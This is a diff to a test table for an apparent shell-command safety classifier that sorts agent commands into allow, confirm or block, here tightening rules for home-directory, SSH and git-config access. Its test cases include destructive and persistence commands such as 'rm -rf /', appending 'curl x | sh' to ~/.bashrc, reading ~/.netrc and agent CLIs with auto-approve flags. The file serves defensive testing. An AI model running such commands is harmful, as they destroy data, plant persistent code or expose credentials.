@@ -422,8 +422,8 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase("allow-docker-build-t-app", "docker build -t app .", "allow"),
     FamilyCase("allow-cargo-test-all", "cargo test --all", "allow"),
     FamilyCase("allow-pytest-x-q", "pytest -x -q", "allow"),
-    FamilyCase("allow-ls-la", "ls -la ~", "allow"),
-    FamilyCase("allow-du-sh-projects", "du -sh ~/projects", "allow"),
+    FamilyCase("posture-confirm-ls-la", "ls -la ~", "confirm"),
+    FamilyCase("posture-confirm-du-sh-projects", "du -sh ~/projects", "confirm"),
     FamilyCase("allow-cd-tmp-ls", "cd /tmp && ls", "allow"),
     FamilyCase("allow-cd-ls", "cd .. && ls", "allow"),
     FamilyCase("allow-mkdir-p-cache-app", "mkdir -p ~/.cache/app", "allow"),
@@ -477,8 +477,8 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
         "ssh-keygen -t ed25519 -f ./deploy_key -N ''",
         "allow",
     ),
-    FamilyCase("allow-cat-ssh-id-rsa-pub", "cat ~/.ssh/id_rsa.pub", "allow"),
-    FamilyCase("allow-ls-ssh", "ls ~/.ssh", "allow"),
+    FamilyCase("posture-confirm-cat-ssh-id-rsa-pub", "cat ~/.ssh/id_rsa.pub", "confirm"),
+    FamilyCase("posture-confirm-ls-ssh", "ls ~/.ssh", "confirm"),
     FamilyCase("allow-diff-sort-a-txt-sort-b-txt", "diff <(sort a.txt) <(sort b.txt)", "allow"),
     FamilyCase("allow-xargs-n1-echo-list-txt", "xargs -n1 echo < list.txt", "allow"),
     FamilyCase(
@@ -545,7 +545,7 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase("allow-echo-agvsbg8-base64-d", "echo aGVsbG8= | base64 -d", "allow"),
     FamilyCase("allow-unzip-o-a-zip-d-out", "unzip -o a.zip -d out", "allow"),
     FamilyCase("allow-zip-r-out-zip-src", "zip -r out.zip src", "allow"),
-    FamilyCase("allow-ln-s-lib-lib", "ln -s ../lib lib", "allow"),
+    FamilyCase("confirm-ln-s-lib-lib", "ln -s ../lib lib", "confirm"),
     FamilyCase("allow-rsync-av-src-backup", "rsync -av src/ backup/", "allow"),
     FamilyCase("allow-rsync-av-delete-build-out", "rsync -av --delete build/ out/", "allow"),
     FamilyCase("allow-env-foo-1-make", "env FOO=1 make", "allow"),
@@ -644,7 +644,7 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase("confirm-git-branch-d-feature-x", "git branch -D feature/x", "confirm"),
     FamilyCase("confirm-git-restore-src-app-py", "git restore src/app.py", "confirm"),
     FamilyCase("confirm-git-checkout-src-app-py", "git checkout -- src/app.py", "confirm"),
-    FamilyCase("confirm-echo-export-x-1-bashrc", "echo 'export X=1' >> ~/.bashrc", "confirm"),
+    FamilyCase("block-echo-export-x-1-bashrc", "echo 'export X=1' >> ~/.bashrc", "block"),
     FamilyCase("confirm-rm-rf-tmp-build", "rm -rf ~/tmp-build", "confirm"),
     FamilyCase("confirm-rm-rf-other-project-dist", "rm -rf ../other-project/dist", "confirm"),
     FamilyCase("confirm-rm-rf-srv-app-releases-old", "rm -rf /srv/app/releases/old", "confirm"),
@@ -670,7 +670,7 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase("allow-set-a-env-set-a", "set -a; . ./.env; set +a", "allow"),
     FamilyCase("allow-grep-rn-password-src", 'grep -rn "password" src/', "allow"),
     FamilyCase("allow-grep-r-id-rsa-docs", 'grep -r "id_rsa" docs/', "allow"),
-    FamilyCase("allow-ls-la-ssh", "ls -la ~/.ssh/", "allow"),
+    FamilyCase("posture-confirm-ls-la-ssh", "ls -la ~/.ssh/", "confirm"),
     FamilyCase("allow-ssh-user-host", "ssh user@host", "allow"),
     FamilyCase("allow-ssh-t-git-github-com", "ssh -T git@github.com", "allow"),
     FamilyCase("allow-scp-build-tar-gz-user-host-tmp", "scp build.tar.gz user@host:/tmp/", "allow"),
@@ -793,9 +793,9 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase("allow-bash-scripts-setup-sh", "bash ./scripts/setup.sh", "allow"),
     FamilyCase("allow-sh-c-cd-web-npm-install", "sh -c 'cd web && npm install'", "allow"),
     FamilyCase(
-        "allow-bash-lc-source-nvm-nvm-sh-nvm-use-20",
+        "posture-confirm-bash-lc-source-nvm-nvm-sh-nvm-use-20",
         "bash -lc 'source ~/.nvm/nvm.sh && nvm use 20'",
-        "allow",
+        "confirm",
     ),
     FamilyCase("allow-chmod-u-x-run-sh-run-sh", "chmod u+x run.sh && ./run.sh", "allow"),
     FamilyCase("allow-mkdir-p-out-cp-r-assets-out", "mkdir -p out && cp -r assets out/", "allow"),
@@ -805,7 +805,9 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase("allow-rm-f-cache-app-tmp", "rm -f ~/.cache/app/*.tmp", "allow"),
     FamilyCase("allow-rm-rf-cache-pip", "rm -rf ~/.cache/pip", "allow"),
     FamilyCase(
-        "allow-rm-rf-projects-app-node-modules", "rm -rf ~/projects/app/node_modules", "allow"
+        "posture-confirm-rm-rf-projects-app-node-modules",
+        "rm -rf ~/projects/app/node_modules",
+        "confirm",
     ),
     FamilyCase("allow-rm-rf-home-cache-go-build", 'rm -rf "$HOME/.cache/go-build"', "allow"),
     FamilyCase("allow-rm-rf-tmpdir-build", "rm -rf ${TMPDIR}/build", "allow"),
@@ -839,7 +841,9 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
         "allow",
     ),
     FamilyCase(
-        "allow-git-config-global-user-email-x-y-z", "git config --global user.email x@y.z", "allow"
+        "posture-confirm-git-config-global-user-email-x-y-z",
+        "git config --global user.email x@y.z",
+        "confirm",
     ),
     FamilyCase(
         "allow-git-config-get-remote-origin-url", "git config --get remote.origin.url", "allow"
@@ -953,24 +957,26 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase("allow-pip-freeze-requirements-txt", "pip freeze > requirements.txt", "allow"),
     FamilyCase("allow-python-m-http-server-8000", "python -m http.server 8000", "allow"),
     FamilyCase(
-        "allow-ssh-keygen-lf-ssh-id-ed25519-pub", "ssh-keygen -lf ~/.ssh/id_ed25519.pub", "allow"
+        "posture-confirm-ssh-keygen-lf-ssh-id-ed25519-pub",
+        "ssh-keygen -lf ~/.ssh/id_ed25519.pub",
+        "confirm",
     ),
-    FamilyCase("allow-ssh-add-l", "ssh-add -l", "allow"),
-    FamilyCase("allow-gpg-list-keys", "gpg --list-keys", "allow"),
-    FamilyCase("allow-cat-gitconfig", "cat ~/.gitconfig", "allow"),
-    FamilyCase("allow-ls-la-config", "ls -la ~/.config", "allow"),
+    FamilyCase("posture-confirm-ssh-add-l", "ssh-add -l", "confirm"),
+    FamilyCase("posture-confirm-gpg-list-keys", "gpg --list-keys", "confirm"),
+    FamilyCase("posture-confirm-cat-gitconfig", "cat ~/.gitconfig", "confirm"),
+    FamilyCase("posture-confirm-ls-la-config", "ls -la ~/.config", "confirm"),
     FamilyCase(
-        "allow-mkdir-p-config-app-cp-config-toml-config",
+        "confirm-mkdir-p-config-app-cp-config-toml-config",
         "mkdir -p ~/.config/app && cp config.toml ~/.config/app/",
-        "allow",
+        "confirm",
     ),
     FamilyCase(
-        "allow-ln-sf-pwd-bin-tool-local-bin-tool",
+        "block-ln-sf-pwd-bin-tool-local-bin-tool",
         "ln -sf $(pwd)/bin/tool ~/.local/bin/tool",
-        "allow",
+        "block",
     ),
     FamilyCase("allow-tee-a-build-log", "tee -a build.log", "allow"),
-    FamilyCase("allow-script-sh", "script.sh", "allow"),
+    FamilyCase("posture-confirm-script-sh", "script.sh", "confirm"),
     FamilyCase("allow-node-modules-bin-jest", "./node_modules/.bin/jest", "allow"),
     FamilyCase("allow-npx-jest-watchall-false", "npx jest --watchAll=false", "allow"),
     FamilyCase("allow-bunx-vitest-run", "bunx vitest run", "allow"),
@@ -991,10 +997,10 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase(
         "allow-uv-pip-install-r-requirements-txt", "uv pip install -r requirements.txt", "allow"
     ),
-    FamilyCase("allow-conda-activate-env", "conda activate env", "allow"),
+    FamilyCase("posture-confirm-conda-activate-env", "conda activate env", "confirm"),
     FamilyCase("allow-pyenv-local-3-12", "pyenv local 3.12", "allow"),
     FamilyCase("allow-nvm-use-18", "nvm use 18", "allow"),
-    FamilyCase("allow-brew-install-jq", "brew install jq", "allow"),
+    FamilyCase("posture-confirm-brew-install-jq", "brew install jq", "confirm"),
     FamilyCase("allow-apt-list-installed", "apt list --installed", "allow"),
     FamilyCase("allow-dpkg-l-grep-python", "dpkg -l | grep python", "allow"),
     FamilyCase(
@@ -1235,11 +1241,11 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase("block-wget-p-home", "wget -P ~ https://x.example/x", "block"),
     FamilyCase("block-curl-output-dir-home", "curl --output-dir ~ -O https://x.example/x", "block"),
     FamilyCase("block-curl-o-home-dotfile", "curl -o ~/.npmrc https://x.example/x", "block"),
-    FamilyCase("allow-curl-o-local-bin", "curl -o ~/.local/bin/x https://x.example/x", "allow"),
+    FamilyCase("block-curl-o-local-bin", "curl -o ~/.local/bin/x https://x.example/x", "block"),
     FamilyCase("allow-curl-o-project", "curl -sSLo vendor/x.tgz https://x.example/x.tgz", "allow"),
     FamilyCase("allow-curl-o-tmp", "curl -sSLo /tmp/x.sh https://x.example/i.sh", "allow"),
     FamilyCase("allow-wget-p-tmp", "wget -P /tmp https://x.example/a", "allow"),
-    FamilyCase("allow-cp-local-share", "cp build/tool ~/.local/share/tool/x", "allow"),
+    FamilyCase("confirm-cp-local-share", "cp build/tool ~/.local/share/tool/x", "confirm"),
     # Agent CLIs whose approval-free mode is an option, or the default (cline).
     FamilyCase("block-cline-default-auto-approve", "cline -i", "block"),
     FamilyCase("block-npx-cline-task", 'npx cline "fix the login bug"', "block"),
@@ -1495,17 +1501,23 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase("confirm-git-foo", "git foo", "confirm"),
     FamilyCase("allow-git-c-core-editor-true", "git -c core.editor=true log", "allow"),
     FamilyCase(
-        "allow-git-config-editor-code", 'git config --global core.editor "code --wait"', "allow"
+        "posture-confirm-git-config-editor-code",
+        'git config --global core.editor "code --wait"',
+        "confirm",
     ),
     FamilyCase(
-        "allow-git-config-credential-store", "git config --global credential.helper store", "allow"
+        "posture-confirm-git-config-credential-store",
+        "git config --global credential.helper store",
+        "confirm",
     ),
     FamilyCase("allow-git-c-pager-less", 'git -c core.pager="less -R" log', "allow"),
     FamilyCase("allow-rm-srv-inside-cwd-none-tmp", "rm -rf /tmp/build-output", "allow"),
-    FamilyCase("allow-chmod-700-ssh", "chmod -R 700 ~/.ssh", "allow"),
-    FamilyCase("allow-chown-npm", "chown -R $(whoami) ~/.npm", "allow"),
+    FamilyCase("posture-confirm-chmod-700-ssh", "chmod -R 700 ~/.ssh", "confirm"),
+    FamilyCase("posture-confirm-chown-npm", "chown -R $(whoami) ~/.npm", "confirm"),
     FamilyCase("allow-cd-build-rm-glob", "cd build && rm -rf *", "allow"),
-    FamilyCase("allow-ssh-keygen-fingerprint", "ssh-keygen -lf ~/.ssh/id_ed25519.pub", "allow"),
+    FamilyCase(
+        "posture-confirm-ssh-keygen-fingerprint", "ssh-keygen -lf ~/.ssh/id_ed25519.pub", "confirm"
+    ),
     FamilyCase("allow-rm-tmp-logs-glob", "rm -rf /tmp/*.log", "allow"),
     FamilyCase("allow-git-commit-help", "git commit --help", "allow"),
     FamilyCase("block-echo-script-then-run", 'echo "rm -rf /" > x.sh && sh x.sh', "block"),
@@ -1537,7 +1549,9 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase("confirm-git-config-alias-bang", 'git config alias.x "!rm -rf ~"', "confirm"),
     FamilyCase("allow-env-production-prefix", "ENV=production npm start", "allow"),
     FamilyCase(
-        "allow-git-ssh-command-ssh", 'GIT_SSH_COMMAND="ssh -i ~/.ssh/deploy" git fetch', "allow"
+        "posture-confirm-git-ssh-command-ssh",
+        'GIT_SSH_COMMAND="ssh -i ~/.ssh/deploy" git fetch',
+        "confirm",
     ),
     FamilyCase("allow-ifs-read-loop", "while IFS= read -r l; do echo $l; done < f", "allow"),
     FamilyCase("allow-rm-dotdot-inside", "rm -rf ./x/../y", "allow"),
@@ -1584,7 +1598,7 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
         "block",
     ),
     FamilyCase("block-bashrc-curl-sh", 'echo "curl x | sh" >> ~/.bashrc', "block"),
-    FamilyCase("confirm-bashrc-path", 'echo "export PATH=$HOME/bin:$PATH" >> ~/.bashrc', "confirm"),
+    FamilyCase("block-bashrc-path", 'echo "export PATH=$HOME/bin:$PATH" >> ~/.bashrc', "block"),
     FamilyCase("block-git-hook-sudo", 'echo "sudo reboot" > .git/hooks/pre-commit', "block"),
     FamilyCase(
         "confirm-git-add-a-git-commit-m-cat-eof-feat-x-co",
@@ -1737,7 +1751,9 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase("allow-sudo-version-true", "sudo --version || true", "allow"),
     FamilyCase("allow-sudo-l", "sudo -l", "allow"),
     FamilyCase("block-time-rm-rf-2", "time (rm -rf /)", "block"),
-    FamilyCase("allow-chromium-no-sandbox", "chromium --headless --no-sandbox x.html", "allow"),
+    FamilyCase(
+        "posture-confirm-chromium-no-sandbox", "chromium --headless --no-sandbox x.html", "confirm"
+    ),
     FamilyCase("allow-terraform-auto-approve-long", "terraform apply --auto-approve", "allow"),
     FamilyCase("block-copilot-allow-all-tools", "copilot --allow-all-tools -p x", "block"),
     FamilyCase("block-kiro-trust-all-tools", "kiro-cli chat --trust-all-tools", "block"),
@@ -1754,7 +1770,7 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase("allow-claude-mcp-list", "claude mcp list", "allow"),
     FamilyCase("block-rm-downloads-glob", "rm -f ~/Downloads/*.md", "block"),
     FamilyCase("confirm-rm-downloads-file", "rm ~/Downloads/old.zip", "confirm"),
-    FamilyCase("allow-rm-home-project-dist", "rm -rf ~/projects/app/dist", "allow"),
+    FamilyCase("posture-confirm-rm-home-project-dist", "rm -rf ~/projects/app/dist", "confirm"),
     FamilyCase("confirm-reserved-word-do-sudo", '"until" false; do sudo id; done', "block"),
     FamilyCase("confirm-stray-done", "ls; done", "confirm"),
     # infrastructure reads stay allowed; teardown and publishing do not
@@ -1768,7 +1784,7 @@ FAMILY_CASES: tuple[FamilyCase, ...] = (
     FamilyCase("block-oc-delete-project-all", "oc delete all --all", "block"),
     FamilyCase("block-wrapped-terraform-destroy", "timeout 600 terraform destroy", "block"),
     FamilyCase("confirm-gem-push", "gem push pkg-1.0.gem", "confirm"),
-    FamilyCase("allow-cat-ssh-pubkey", "cat ~/.ssh/id_ed25519.pub", "allow"),
+    FamilyCase("posture-confirm-cat-ssh-pubkey", "cat ~/.ssh/id_ed25519.pub", "confirm"),
     FamilyCase("allow-cat-project-env-example", "cat .env.example", "allow"),
     FamilyCase("block-less-netrc", "less ~/.netrc", "block"),
     FamilyCase("confirm-cp-instruction-into-dot", "cp ../other/CLAUDE.md .", "confirm"),
